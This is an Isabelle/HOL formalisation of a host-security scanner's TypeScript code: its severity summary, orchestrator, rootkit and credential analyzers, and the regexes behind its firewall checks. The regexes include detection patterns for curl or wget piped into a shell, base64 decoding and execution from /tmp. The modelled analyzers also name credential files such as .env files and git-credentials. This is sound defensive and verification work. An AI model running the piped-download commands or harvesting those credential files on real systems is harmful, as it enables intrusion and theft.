theory Spec2Isabelle
  imports Main
begin

section \<open>Sentinel-Scan: data model (src/core/models.ts)\<close>

text \<open>
  JavaScript strings are sequences of UTF-16 code units. They are modelled as
  \<^typ>\<open>string\<close>, one \<^typ>\<open>char\<close> per code unit, which covers the code units
  below 256; \<open>length\<close> is the source's \<open>.length\<close>.
\<close>

datatype Severity = INFO | LOW | MEDIUM | HIGH | CRITICAL

text \<open>The numeric value of each member of the \<open>Severity\<close> enum.\<close>

fun severity_value :: "Severity \<Rightarrow> int" where
  "severity_value INFO = 0"
| "severity_value LOW = 1"
| "severity_value MEDIUM = 2"
| "severity_value HIGH = 3"
| "severity_value CRITICAL = 4"

fun severityLabel :: "Severity \<Rightarrow> string" where
  "severityLabel INFO = ''INFO''"
| "severityLabel LOW = ''LOW''"
| "severityLabel MEDIUM = ''MEDIUM''"
| "severityLabel HIGH = ''HIGH''"
| "severityLabel CRITICAL = ''CRITICAL''"

text \<open>
  \<open>details\<close> and \<open>rawData\<close> are \<open>Record<string, unknown>\<close>: an object is an
  association list in insertion order, its values are JSON-like values.
\<close>

datatype json =
    JStr string
  | JNum int
  | JBool bool
  | JArr "json list"
  | JObj "(string \<times> json) list"

type_synonym jsobject = "(string \<times> json) list"

record Finding =
  id_f :: string
  module :: string
  severity :: Severity
  title :: string
  description :: string
  details :: "jsobject option"
  remediation :: "string option"

datatype Status = CLEAN | INFORMATIONAL | WARNINGS | THREATS_FOUND | COMPROMISED

record counts =
  critical :: nat
  high :: nat
  medium :: nat
  low :: nat
  info :: nat

text \<open>The summary object is \<open>{ total, ...counts, status, maxSeverity }\<close>.\<close>

record Summary = counts +
  total_n :: nat
  status :: Status
  maxSeverity :: Severity

section \<open>Summary (src/core/scanner.ts, buildSummary)\<close>

text \<open>One iteration of the \<open>for (const f of findings)\<close> loop: the bucket that is
  incremented, then the running maximum.\<close>

definition count_finding :: "Finding \<Rightarrow> counts \<Rightarrow> counts" where
  "count_finding f c =
     (if severity f = CRITICAL then c\<lparr>critical := critical c + 1\<rparr>
      else if severity f = HIGH then c\<lparr>high := high c + 1\<rparr>
      else if severity f = MEDIUM then c\<lparr>medium := medium c + 1\<rparr>
      else if severity f = LOW then c\<lparr>low := low c + 1\<rparr>
      else c\<lparr>info := info c + 1\<rparr>)"

definition raise_max :: "Finding \<Rightarrow> Severity \<Rightarrow> Severity" where
  "raise_max f m = (if severity_value (severity f) > severity_value m then severity f else m)"

fun summary_loop :: "Finding list \<Rightarrow> counts \<Rightarrow> Severity \<Rightarrow> counts \<times> Severity" where
  "summary_loop [] c m = (c, m)"
| "summary_loop (f # fs) c m = summary_loop fs (count_finding f c) (raise_max f m)"

definition status_of :: "counts \<Rightarrow> Status" where
  "status_of c =
     (if critical c > 0 then COMPROMISED
      else if high c > 0 then THREATS_FOUND
      else if medium c > 0 then WARNINGS
      else if low c > 0 \<or> info c > 0 then INFORMATIONAL
      else CLEAN)"

definition buildSummary :: "Finding list \<Rightarrow> Summary" where
  "buildSummary fs =
     (case summary_loop fs \<lparr>critical = 0, high = 0, medium = 0, low = 0, info = 0\<rparr> INFO of
        (c, m) \<Rightarrow>
          \<lparr>critical = critical c, high = high c, medium = medium c, low = low c, info = info c,
           total_n = length fs, status = status_of c, maxSeverity = m\<rparr>)"

section \<open>Exit code (src/cli/index.ts, severityToExitCode)\<close>

text \<open>
  The \<open>switch\<close> runs on the numeric value of the enum; its \<open>default\<close> branch is
  the case of a number that is none of the five members.
\<close>

definition severityToExitCode :: "int \<Rightarrow> nat" where
  "severityToExitCode s =
     (if s = 4 \<or> s = 3 then 3
      else if s = 2 then 2
      else if s = 1 \<or> s = 0 then 1
      else 0)"

definition exit_code :: "Summary \<Rightarrow> nat" where
  "exit_code s = severityToExitCode (severity_value (maxSeverity s))"

section \<open>JavaScript string operations used by the analyzers\<close>

text \<open>\<open>WhiteSpace\<close> and \<open>LineTerminator\<close> code units below 256: what \<open>trim\<close>
  removes and what \<open>\s\<close> matches.\<close>

definition isWhiteSpace :: "char \<Rightarrow> bool" where
  "isWhiteSpace c =
     (c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR 0xA0])"

text \<open>\<open>\w\<close> without the \<open>u\<close> flag: \<open>[A-Za-z0-9_]\<close>.\<close>

definition isWordChar :: "char \<Rightarrow> bool" where
  "isWordChar c =
     (let n = (of_char c :: nat) in
        (97 \<le> n \<and> n \<le> 122) \<or> (65 \<le> n \<and> n \<le> 90) \<or> (48 \<le> n \<and> n \<le> 57) \<or> n = 95)"

text \<open>What \<open>.\<close> does not match: the line terminators below 256.\<close>

definition isLineTerminator :: "char \<Rightarrow> bool" where
  "isLineTerminator c = (c = CHR 0x0A \<or> c = CHR 0x0D)"

text \<open>Upper-case letters below 256 (A-Z and the Latin-1 capitals); their lower-case
  form is 32 higher, that is bit 5 set.\<close>

definition isUpperChar :: "char \<Rightarrow> bool" where
  "isUpperChar c =
     (let n = (of_char c :: nat) in
        (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215))"

fun set_bit5 :: "char \<Rightarrow> char" where
  "set_bit5 (Char b0 b1 b2 b3 b4 b5 b6 b7) = Char b0 b1 b2 b3 b4 True b6 b7"

definition toLowerChar :: "char \<Rightarrow> char" where
  "toLowerChar c = (if isUpperChar c then set_bit5 c else c)"

definition toLowerCase :: "string \<Rightarrow> string" where
  "toLowerCase s = map toLowerChar s"

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile isWhiteSpace (rev (dropWhile isWhiteSpace s)))"

definition startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s p = (take (length p) s = p)"

fun includes_js :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "includes_js [] sub = startsWith [] sub"
| "includes_js (c # cs) sub = (startsWith (c # cs) sub \<or> includes_js cs sub)"

text \<open>\<open>s.split("\n")\<close>: never empty, \<open>"".split("\n")\<close> is \<open>[""]\<close>.\<close>

fun split_lines :: "string \<Rightarrow> string list" where
  "split_lines [] = [[]]"
| "split_lines (c # cs) =
     (if c = CHR 0x0A then [] # split_lines cs
      else (case split_lines cs of [] \<Rightarrow> [[c]] | l # ls \<Rightarrow> (c # l) # ls))"

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # ys) = x @ sep @ join sep (y # ys)"

text \<open>Decimal rendering of a non-negative integer (\<open>String(n)\<close>, \<open>${n}\<close>).\<close>

fun nat_dec :: "nat \<Rightarrow> string" where
  "nat_dec n =
     (if n < 10 then [''0123456789'' ! n]
      else nat_dec (n div 10) @ [''0123456789'' ! (n mod 10)])"

declare nat_dec.simps [simp del]

definition padStart :: "nat \<Rightarrow> char \<Rightarrow> string \<Rightarrow> string" where
  "padStart n c s = replicate (n - length s) c @ s"

text \<open>\<open>private truncate(s, max)\<close> of the crontab and shell analyzers.\<close>

definition truncate_text :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "truncate_text s max_len = (if length s > max_len then take max_len s @ ''...'' else s)"

text \<open>The double-quote character of the source's template strings.\<close>

definition dq :: string where
  "dq = [CHR 0x22]"

text \<open>\<open>x ?? d\<close>: \<open>None\<close> is \<open>undefined\<close> or \<open>null\<close>.\<close>

definition nullish :: "'a \<Rightarrow> 'a option \<Rightarrow> 'a" where
  "nullish d x = (case x of None \<Rightarrow> d | Some v \<Rightarrow> v)"

section \<open>Threat database (src/threats/index.ts)\<close>

record PortEntry =
  port :: int
  name_pe :: string
  severity_pe :: string
  direction :: string

text \<open>Of the six tables only \<open>ports\<close> is read by the operation modelled here.\<close>

record ThreatDB =
  ports :: "PortEntry list"

fun matchPort_loop :: "PortEntry list \<Rightarrow> int \<Rightarrow> string \<Rightarrow> PortEntry option" where
  "matchPort_loop [] p dir = None"
| "matchPort_loop (entry # rest) p dir =
     (if port entry = p \<and> (direction entry = dir \<or> direction entry = ''outbound'')
      then Some entry
      else matchPort_loop rest p dir)"

definition matchPort :: "ThreatDB \<Rightarrow> int \<Rightarrow> string \<Rightarrow> PortEntry option" where
  "matchPort db p dir_arg =
     (let dir = (if dir_arg = ''listening'' then ''listening'' else ''outbound'')
      in matchPort_loop (ports db) p dir)"

section \<open>Orchestrator (src/core/scanner.ts, Scanner.run)\<close>

text \<open>
  A thrown value is an \<open>Error\<close> with its message, or anything else with its
  \<open>String(err)\<close> conversion.
\<close>

datatype thrown = ErrorObj string | NonError string

fun error_text :: "thrown \<Rightarrow> string" where
  "error_text (ErrorObj message) = message"
| "error_text (NonError str) = str"

record CollectorResult =
  module_cr :: string
  data :: jsobject
  raw :: string

text \<open>
  \<open>collect()\<close> returns a promise that is awaited: it resolves (\<open>Inr\<close>) or rejects
  (\<open>Inl\<close>). \<open>analyze\<close> returns its findings or throws. A registry is a lookup by
  module name that may find nothing.
\<close>

type_synonym Collector = "unit \<Rightarrow> thrown + CollectorResult"
type_synonym Analyzer = "CollectorResult \<Rightarrow> ThreatDB \<Rightarrow> thrown + Finding list"

record ModuleResult =
  module_mr :: string
  findings_mr :: "Finding list"
  rawData :: jsobject
  durationMs_mr :: int
  error :: "string option"

record PlatformInfo =
  hostname_pi :: string
  os_pi :: string
  kernel_pi :: string
  ip_pi :: string

text \<open>\<open>timestamp\<close> is the clock reading behind \<open>new Date()\<close>; its rendering as an
  ISO-8601 string is not modelled.\<close>

record ScanResult =
  version :: string
  timestamp :: int
  hostname :: string
  os :: string
  ip :: string
  modules :: "ModuleResult list"
  findings :: "Finding list"
  summary :: Summary
  durationMs :: int

text \<open>
  The body of the \<open>try\<close>/\<open>catch\<close> for one module: the values of \<open>findings\<close>,
  \<open>rawData\<close> and \<open>error\<close> when the block is left. \<open>rawData\<close> is assigned before
  \<open>analyze\<close> runs, so it survives a throwing analyzer.
\<close>

definition try_module ::
  "(string \<rightharpoonup> Collector) \<Rightarrow> (string \<rightharpoonup> Analyzer) \<Rightarrow> ThreatDB \<Rightarrow> string
     \<Rightarrow> Finding list \<times> jsobject \<times> string option" where
  "try_module COLLECTOR_REGISTRY ANALYZER_REGISTRY threatDB moduleName =
     (case (COLLECTOR_REGISTRY moduleName, ANALYZER_REGISTRY moduleName) of
        (Some collector, Some analyzer) \<Rightarrow>
          (case collector () of
             Inl err \<Rightarrow> ([], [], Some (error_text err))
           | Inr collectorResult \<Rightarrow>
               (case analyzer collectorResult threatDB of
                  Inl err \<Rightarrow> ([], data collectorResult, Some (error_text err))
                | Inr fs \<Rightarrow> (fs, data collectorResult, None)))
      | _ \<Rightarrow> ([], [], Some (''Module '' @ dq @ moduleName @ dq @ '' not found in registry'')))"

text \<open>
  The \<open>for (const moduleName of ctx.modules)\<close> loop. \<open>now k\<close> is the value of the
  \<open>k\<close>-th call of \<open>Date.now()\<close>; each iteration reads the clock twice. The progress
  callbacks only draw on the terminal and are left out.
\<close>

fun run_loop ::
  "(string \<rightharpoonup> Collector) \<Rightarrow> (string \<rightharpoonup> Analyzer) \<Rightarrow> ThreatDB \<Rightarrow> (nat \<Rightarrow> int) \<Rightarrow> nat
     \<Rightarrow> string list \<Rightarrow> ModuleResult list \<times> Finding list
     \<Rightarrow> nat \<times> ModuleResult list \<times> Finding list" where
  "run_loop creg areg db now k [] (moduleResults, allFindings) = (k, moduleResults, allFindings)"
| "run_loop creg areg db now k (moduleName # rest) (moduleResults, allFindings) =
     (let moduleStart = now k in
      case try_module creg areg db moduleName of
        (fs, rd, err) \<Rightarrow>
          let duration = now (k + 1) - moduleStart in
          run_loop creg areg db now (k + 2) rest
            (moduleResults @
               [\<lparr>module_mr = moduleName, findings_mr = fs, rawData = rd,
                 durationMs_mr = duration, error = err\<rparr>],
             allFindings @ fs))"

definition run ::
  "(string \<rightharpoonup> Collector) \<Rightarrow> (string \<rightharpoonup> Analyzer) \<Rightarrow> ThreatDB \<Rightarrow> PlatformInfo
     \<Rightarrow> (nat \<Rightarrow> int) \<Rightarrow> string list \<Rightarrow> ScanResult" where
  "run creg areg db platform now ctx_modules =
     (let startTime = now 0 in
      case run_loop creg areg db now 1 ctx_modules ([], []) of
        (k, moduleResults, allFindings) \<Rightarrow>
          let totalDuration = now k - startTime in
          \<lparr>version = ''0.1.0'', timestamp = now (k + 1), hostname = hostname_pi platform,
           os = os_pi platform, ip = ip_pi platform, modules = moduleResults,
           findings = allFindings, summary = buildSummary allFindings,
           durationMs = totalDuration\<rparr>)"

section \<open>Analyzers: common parts\<close>

text \<open>The backslash of the remediation texts.\<close>

definition bs :: string where
  "bs = [CHR 0x5C]"

text \<open>
  Every analyzer keeps a counter and a list of findings; \<open>nextId()\<close> increments the
  counter and renders it padded to three digits after the module's prefix. \<open>push\<close> is
  one \<open>findings.push({ id: nextId(), ... })\<close>.
\<close>

definition nextId :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "nextId prefix counter = prefix @ ''-'' @ padStart 3 (CHR ''0'') (nat_dec counter)"

definition push :: "string \<Rightarrow> (string \<Rightarrow> Finding) \<Rightarrow> nat \<times> Finding list \<Rightarrow> nat \<times> Finding list" where
  "push prefix mk st =
     (case st of (counter, fs) \<Rightarrow> (counter + 1, fs @ [mk (nextId prefix (counter + 1))]))"

text \<open>
  The analyzers read \<open>data.data.<key> ?? <default>\<close> and cast the value to its
  declared type; the model takes each key at that type, \<open>None\<close> when it is absent.
\<close>

section \<open>Rootkit analyzer (RootkitAnalyzer.analyze)\<close>

record RootkitData =
  ldPreload :: "string option"
  suspiciousSoFiles :: "string list option"
  etcDataExists :: "bool option"
  etcDataFiles :: "string list option"

definition preload_entries :: "string \<Rightarrow> string list" where
  "preload_entries preloadContent =
     filter (\<lambda>l. length l > 0 \<and> \<not> startsWith l ''#'') (map trim (split_lines preloadContent))"

definition rootkit_preload_finding :: "string \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> Finding" where
  "rootkit_preload_finding preloadContent preloadEntries i =
     \<lparr>id_f = i, module = ''rootkit'', severity = CRITICAL,
      title = ''LD_PRELOAD rootkit detected'',
      description =
          ''/etc/ld.so.preload contains entries: '' @ join '', '' preloadEntries @
          ''. This file forces shared libraries to be loaded into every '' @
          ''process, which is the primary mechanism for userland rootkits '' @
          ''(e.g., Jynx, Azazel, libprocesshider).'',
      details = Some [(''file'', JStr ''/etc/ld.so.preload''),
                      (''entries'', JArr (map JStr preloadEntries)),
                      (''rawContent'', JStr preloadContent)],
      remediation = Some
         (''This is a strong indicator of active compromise. 1) Record the '' @
          ''preloaded library paths. 2) Remove or empty /etc/ld.so.preload. '' @
          ''3) Delete the malicious .so files. 4) Restart sshd and critical '' @
          ''services. 5) Audit the system for additional persistence '' @
          ''mechanisms.'')\<rparr>"

definition rootkit_so_finding :: "string \<Rightarrow> string \<Rightarrow> Finding" where
  "rootkit_so_finding soFile i =
     \<lparr>id_f = i, module = ''rootkit'', severity = HIGH,
      title = ''Suspicious shared library in non-standard location'',
      description =
          ''Found .so file at '' @ dq @ soFile @ dq @
          ''. Shared libraries outside of standard library paths (/usr/lib, '' @
          ''/lib) are often rootkit components or injected libraries.'',
      details = Some [(''path'', JStr soFile)],
      remediation = Some
         (''Inspect the shared library with '' @ dq @ ''file '' @ soFile @ dq @
          '' and '' @ dq @ ''strings '' @ soFile @ dq @
          ''. Check if it is referenced in /etc/ld.so.preload or LD_PRELOAD. '' @
          ''Remove it if it is not legitimate.'')\<rparr>"

definition rootkit_etc_data_finding :: "string list \<Rightarrow> string \<Rightarrow> Finding" where
  "rootkit_etc_data_finding etcDataFiles_v i =
     \<lparr>id_f = i, module = ''rootkit'', severity = CRITICAL,
      title = ''Known malware directory /etc/data detected (Kinsing)'',
      description =
          ''The directory /etc/data exists with '' @ nat_dec (length etcDataFiles_v) @
          '' entries. This is a well-known indicator of the Kinsing '' @
          ''cryptomining malware, which stores its payloads and configuration '' @
          ''in this directory.'',
      details = Some [(''path'', JStr ''/etc/data''), (''files'', JArr (map JStr etcDataFiles_v))],
      remediation = Some
         (''1) Kill any Kinsing-related processes (kdevtmpfsi, kinsing). 2) '' @
          ''Remove /etc/data and its contents. 3) Check crontabs and systemd '' @
          ''for persistence entries. 4) Patch the vulnerability that allowed '' @
          ''initial access (commonly Docker API, Redis, or Log4j).'')\<rparr>"

definition RootkitAnalyzer_analyze :: "RootkitData \<Rightarrow> Finding list" where
  "RootkitAnalyzer_analyze d =
     (let ldPreload_v = nullish '''' (ldPreload d);
          suspiciousSoFiles_v = nullish [] (suspiciousSoFiles d);
          etcDataExists_v = nullish False (etcDataExists d);
          etcDataFiles_v = nullish [] (etcDataFiles d);
          preloadContent = trim ldPreload_v;
          st1 = (if length preloadContent > 0
                 then push ''RK''
                        (rootkit_preload_finding preloadContent (preload_entries preloadContent))
                        (0, [])
                 else (0, []));
          st2 = foldl (\<lambda>st soFile. push ''RK'' (rootkit_so_finding soFile) st) st1
                  suspiciousSoFiles_v;
          st3 = (if etcDataExists_v then push ''RK'' (rootkit_etc_data_finding etcDataFiles_v) st2
                 else st2)
      in snd st3)"

section \<open>Credentials analyzer (src/analyzers/credentials.ts)\<close>

record EnvFile =
  path_ef :: string
  size_ef :: string

record CredentialsData =
  envFiles :: "EnvFile list option"
  serviceAccountKeys :: "string list option"
  gitCredentials :: "string option"
  sshPrivateKeys :: "string list option"

text \<open>
  \<open>formatSize\<close> renders a byte count with floating-point division and \<open>toFixed\<close>;
  it is a parameter of the model (it only fills the description of the findings
  about environment files).
\<close>

definition env_file_finding :: "(string \<Rightarrow> string) \<Rightarrow> EnvFile \<Rightarrow> string \<Rightarrow> Finding" where
  "env_file_finding formatSize envFile i =
     \<lparr>id_f = i, module = ''credentials'', severity = MEDIUM,
      title = ''Environment file with potential secrets'',
      description =
          ''Found .env file at '' @ dq @ path_ef envFile @ dq @ '' ('' @
          formatSize (size_ef envFile) @
          ''). Environment files commonly contain API keys, database '' @
          ''passwords, and other secrets that should not be stored on disk in '' @
          ''production.'',
      details = Some [(''path'', JStr (path_ef envFile)), (''size'', JStr (size_ef envFile))],
      remediation = Some
         (''Review the contents of '' @ dq @ path_ef envFile @ dq @
          '' for secrets. Migrate secrets to a vault solution (e.g., '' @
          ''HashiCorp Vault, AWS Secrets Manager) or encrypted environment '' @
          ''variables. Remove the file from disk if it is not actively needed.'')\<rparr>"

definition service_key_finding :: "string \<Rightarrow> string \<Rightarrow> Finding" where
  "service_key_finding keyPath i =
     \<lparr>id_f = i, module = ''credentials'', severity = HIGH,
      title = ''Service account key file on disk'',
      description =
          ''Found service account / credentials JSON file at '' @ dq @ keyPath @ dq @
          ''. Service account keys grant programmatic access to cloud '' @
          ''resources and are high-value targets for attackers.'',
      details = Some [(''path'', JStr keyPath)],
      remediation = Some
         (''Rotate the service account key immediately via the cloud provider '' @
          ''console. Use workload identity, instance metadata, or a secrets '' @
          ''manager instead of key files on disk. Remove the file after '' @
          ''rotation.'')\<rparr>"

definition git_credentials_finding :: "nat \<Rightarrow> string \<Rightarrow> Finding" where
  "git_credentials_finding credCount i =
     \<lparr>id_f = i, module = ''credentials'', severity = MEDIUM,
      title = ''Git credentials stored in plaintext'',
      description =
          ''Found '' @ nat_dec credCount @ '' credential'' @
          (if credCount = 1 then '''' else ''s'') @
          '' in /root/.git-credentials. These are stored in plaintext and '' @
          ''grant access to Git repositories (potentially including private '' @
          ''source code and infrastructure-as-code).'',
      details = Some [(''path'', JStr ''/root/.git-credentials''),
                      (''credentialCount'', JNum (int credCount))],
      remediation = Some
         (''Switch to a credential helper that uses the system keychain ('' @ dq @
          ''git config --global credential.helper store'' @ dq @
          '' is insecure). Use SSH keys or personal access tokens with '' @
          ''minimal scopes instead.'')\<rparr>"

definition ssh_keys_finding :: "string list \<Rightarrow> string \<Rightarrow> Finding" where
  "ssh_keys_finding sshPrivateKeys_v i =
     \<lparr>id_f = i, module = ''credentials'', severity = INFO,
      title = ''SSH private keys found on disk'',
      description =
          ''Found '' @ nat_dec (length sshPrivateKeys_v) @ '' SSH private key'' @
          (if length sshPrivateKeys_v = 1 then '''' else ''s'') @ '': '' @
          join '', '' sshPrivateKeys_v @
          ''. While SSH keys are a normal authentication mechanism, their '' @
          ''presence should be tracked and their permissions verified.'',
      details = Some [(''count'', JNum (int (length sshPrivateKeys_v))),
                      (''paths'', JArr (map JStr sshPrivateKeys_v))],
      remediation = Some
         (''Ensure all private keys have permissions set to 600 ('' @ dq @
          ''chmod 600 <key>'' @ dq @
          ''). Remove any keys that are no longer needed. Consider using an '' @
          ''SSH agent or hardware security key for additional protection.'')\<rparr>"

definition CredentialAnalyzer_analyze :: "(string \<Rightarrow> string) \<Rightarrow> CredentialsData \<Rightarrow> Finding list" where
  "CredentialAnalyzer_analyze formatSize d =
     (let envFiles_v = nullish [] (envFiles d);
          serviceAccountKeys_v = nullish [] (serviceAccountKeys d);
          gitCredentials_v = gitCredentials d;
          sshPrivateKeys_v = nullish [] (sshPrivateKeys d);
          st1 = foldl (\<lambda>st envFile. push ''CRED'' (env_file_finding formatSize envFile) st) (0, [])
                  envFiles_v;
          st2 = foldl (\<lambda>st keyPath. if trim keyPath = [] then st
                                     else push ''CRED'' (service_key_finding keyPath) st) st1
                  serviceAccountKeys_v;
          st3 = (case gitCredentials_v of
                   None \<Rightarrow> st2
                 | Some g \<Rightarrow>
                     if g = [] then st2
                     else let credCount =
                                length (filter (\<lambda>l. length (trim l) > 0) (split_lines g))
                          in push ''CRED'' (git_credentials_finding credCount) st2);
          st4 = (if length sshPrivateKeys_v > 0
                 then push ''CRED'' (ssh_keys_finding sshPrivateKeys_v) st3 else st3)
      in snd st4)"

section \<open>Regular expressions of the analyzers\<close>

text \<open>
  Each regular expression of the source is a function on strings. A case-insensitive
  expression (flag \<open>i\<close>) whose letters are ASCII is matched in lower case against the
  lower-cased text; lower-casing keeps a code unit's class (word character, white space,
  line terminator).
\<close>

text \<open>\<open>\bLIT\b\<close> for a literal of word characters: an occurrence with no word character
  before it and none after it. The first argument tells whether the code unit before
  the current position is a word character.\<close>

fun re_word :: "bool \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "re_word prev_word w [] = False"
| "re_word prev_word w (c # cs) =
     ((\<not> prev_word \<and> startsWith (c # cs) w \<and>
        (case drop (length w) (c # cs) of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> isWordChar d))
      \<or> re_word (isWordChar c) w cs)"

text \<open>\<open>LIT\s+(?:A|B)\<close> (\<open>some\<close> is true) or \<open>LIT\s*(?:A|B)\<close>: the white space is taken
  greedily, which loses no match since no alternative starts with white space.\<close>

definition after_space :: "bool \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> bool" where
  "after_space some alts s =
     ((some \<longrightarrow> (case s of [] \<Rightarrow> False | c # _ \<Rightarrow> isWhiteSpace c)) \<and>
      list_ex (startsWith (dropWhile isWhiteSpace s)) alts)"

fun re_lit_space :: "string \<Rightarrow> bool \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> bool" where
  "re_lit_space l some alts [] = (startsWith [] l \<and> after_space some alts (drop (length l) []))"
| "re_lit_space l some alts (c # cs) =
     ((startsWith (c # cs) l \<and> after_space some alts (drop (length l) (c # cs)))
      \<or> re_lit_space l some alts cs)"

text \<open>\<open>/\b22\b/\<close>, \<open>/\bssh\b/i\<close>, \<open>/ALLOW\s+IN/i\<close>, \<open>/Anywhere/i\<close>, \<open>/dpt:22/\<close>,
  \<open>/0\.0\.0\.0\/0/\<close>, \<open>/ACCEPT/\<close> of the firewall analyzer.\<close>

definition re_22 :: "string \<Rightarrow> bool" where
  "re_22 s = re_word False ''22'' s"

definition re_ssh :: "string \<Rightarrow> bool" where
  "re_ssh s = re_word False ''ssh'' (toLowerCase s)"

definition re_allow_in :: "string \<Rightarrow> bool" where
  "re_allow_in s = re_lit_space ''allow'' True [''in''] (toLowerCase s)"

definition re_anywhere :: "string \<Rightarrow> bool" where
  "re_anywhere s = includes_js (toLowerCase s) ''anywhere''"

text \<open>\<open>/Chain INPUT.*policy ACCEPT/i\<close>: after \<open>Chain INPUT\<close>, \<open>policy ACCEPT\<close> before
  the next line terminator.\<close>

fun re_input_policy_accept_lc :: "string \<Rightarrow> bool" where
  "re_input_policy_accept_lc [] = False"
| "re_input_policy_accept_lc (c # cs) =
     ((startsWith (c # cs) ''chain input'' \<and>
        includes_js (takeWhile (\<lambda>x. \<not> isLineTerminator x) (drop 11 (c # cs))) ''policy accept'')
      \<or> re_input_policy_accept_lc cs)"

definition re_input_policy_accept :: "string \<Rightarrow> bool" where
  "re_input_policy_accept s = re_input_policy_accept_lc (toLowerCase s)"

text \<open>\<open>DOWNLOAD_PIPE_RE = /(?:wget|curl)\b.*\|\s*(?:bash|sh|zsh|dash)\b/i\<close>.
  \<open>shell_name\<close> is \<open>\s*(?:bash|sh|zsh|dash)\b\<close> at the start of its argument,
  \<open>pipe_shell\<close> is \<open>.*\|\s*(?:bash|sh|zsh|dash)\b\<close> there.\<close>

definition shell_name :: "string \<Rightarrow> bool" where
  "shell_name s =
     (let r = dropWhile isWhiteSpace s in
      list_ex (\<lambda>n. startsWith r n \<and>
                    (case drop (length n) r of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> isWordChar d))
        [''bash'', ''sh'', ''zsh'', ''dash''])"

fun pipe_shell :: "string \<Rightarrow> bool" where
  "pipe_shell [] = False"
| "pipe_shell (c # cs) =
     ((c = CHR ''|'' \<and> shell_name cs) \<or> (\<not> isLineTerminator c \<and> pipe_shell cs))"

fun download_pipe_lc :: "string \<Rightarrow> bool" where
  "download_pipe_lc [] = False"
| "download_pipe_lc (c # cs) =
     (((startsWith (c # cs) ''wget'' \<or> startsWith (c # cs) ''curl'') \<and>
        (case drop 4 (c # cs) of [] \<Rightarrow> True | d # _ \<Rightarrow> \<not> isWordChar d) \<and>
        pipe_shell (drop 4 (c # cs)))
      \<or> download_pipe_lc cs)"

definition DOWNLOAD_PIPE_RE :: "string \<Rightarrow> bool" where
  "DOWNLOAD_PIPE_RE s = download_pipe_lc (toLowerCase s)"

text \<open>\<open>BASE64_RE = /base64\s+(?:-d|--decode)/i\<close>.\<close>

definition BASE64_RE :: "string \<Rightarrow> bool" where
  "BASE64_RE s = re_lit_space ''base64'' True [''-d'', ''--decode''] (toLowerCase s)"

text \<open>\<open>TMP_EXEC_RE = /(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)\S+/\<close> with \<open>exec\<close>: the
  leftmost match, \<open>\S+\<close> greedy; the result is the matched text.\<close>

definition non_space_run :: "string \<Rightarrow> string" where
  "non_space_run s = takeWhile (\<lambda>c. \<not> isWhiteSpace c) s"

fun tmp_prefix_at :: "string list \<Rightarrow> string \<Rightarrow> string option" where
  "tmp_prefix_at [] s = None"
| "tmp_prefix_at (p # ps) s =
     (if startsWith s p \<and> non_space_run (drop (length p) s) \<noteq> []
      then Some (p @ non_space_run (drop (length p) s))
      else tmp_prefix_at ps s)"

fun TMP_EXEC_RE_exec :: "string \<Rightarrow> string option" where
  "TMP_EXEC_RE_exec [] = None"
| "TMP_EXEC_RE_exec (c # cs) =
     (case tmp_prefix_at [''/tmp/'', ''/var/tmp/'', ''/dev/shm/''] (c # cs) of
        Some m \<Rightarrow> Some m
      | None \<Rightarrow> TMP_EXEC_RE_exec cs)"

text \<open>\<open>HIDDEN_DIR_EXEC_RE = /\/\.[^/]+\/\S+/\<close> with \<open>exec\<close>: \<open>[^/]+\<close> has to run up
  to the next slash, since only a slash may follow it.\<close>

definition hidden_dir_at :: "string \<Rightarrow> string option" where
  "hidden_dir_at s =
     (if startsWith s ''/.'' then
        (let seg = takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (drop 2 s);
             after = drop (length seg) (drop 2 s)
         in if seg \<noteq> [] \<and> startsWith after ''/'' \<and> non_space_run (drop 1 after) \<noteq> []
            then Some (''/.'' @ seg @ ''/'' @ non_space_run (drop 1 after))
            else None)
      else None)"

fun HIDDEN_DIR_EXEC_RE_exec :: "string \<Rightarrow> string option" where
  "HIDDEN_DIR_EXEC_RE_exec [] = None"
| "HIDDEN_DIR_EXEC_RE_exec (c # cs) =
     (case hidden_dir_at (c # cs) of
        Some m \<Rightarrow> Some m
      | None \<Rightarrow> HIDDEN_DIR_EXEC_RE_exec cs)"

text \<open>\<open>/^\w+=/\<close>: a variable assignment.\<close>

definition re_assignment :: "string \<Rightarrow> bool" where
  "re_assignment s =
     (takeWhile isWordChar s \<noteq> [] \<and> startsWith (dropWhile isWordChar s) ''='')"

section \<open>Firewall analyzer (FirewallAnalyzer)\<close>

record UfwData =
  active :: bool
  rules :: string

record Fail2banData =
  running :: bool
  jails :: "string list"
  sshdStatus :: string

record FirewallData =
  ufw :: "UfwData option"
  fail2ban :: "Fail2banData option"
  iptables :: "string option"

text \<open>The loop over the UFW rule lines: \<open>True\<close> is the early \<open>return true\<close>.\<close>

fun ufw_rules_loop :: "string list \<Rightarrow> bool" where
  "ufw_rules_loop [] = False"
| "ufw_rules_loop (line # rest) =
     (if \<not> re_22 line \<and> \<not> re_ssh line then ufw_rules_loop rest
      else if re_allow_in line \<and> re_anywhere line then True
      else ufw_rules_loop rest)"

text \<open>The loop over the iptables lines with its flag \<open>inInputChain\<close>.\<close>

fun iptables_loop :: "string list \<Rightarrow> bool \<Rightarrow> bool" where
  "iptables_loop [] inInputChain = False"
| "iptables_loop (line # rest) inInputChain =
     (if startsWith line ''Chain INPUT'' then iptables_loop rest True
      else if startsWith line ''Chain'' then iptables_loop rest False
      else if \<not> inInputChain then iptables_loop rest inInputChain
      else if includes_js line ''dpt:22'' \<and> includes_js line ''0.0.0.0/0'' \<and> includes_js line ''ACCEPT''
      then True
      else iptables_loop rest inInputChain)"

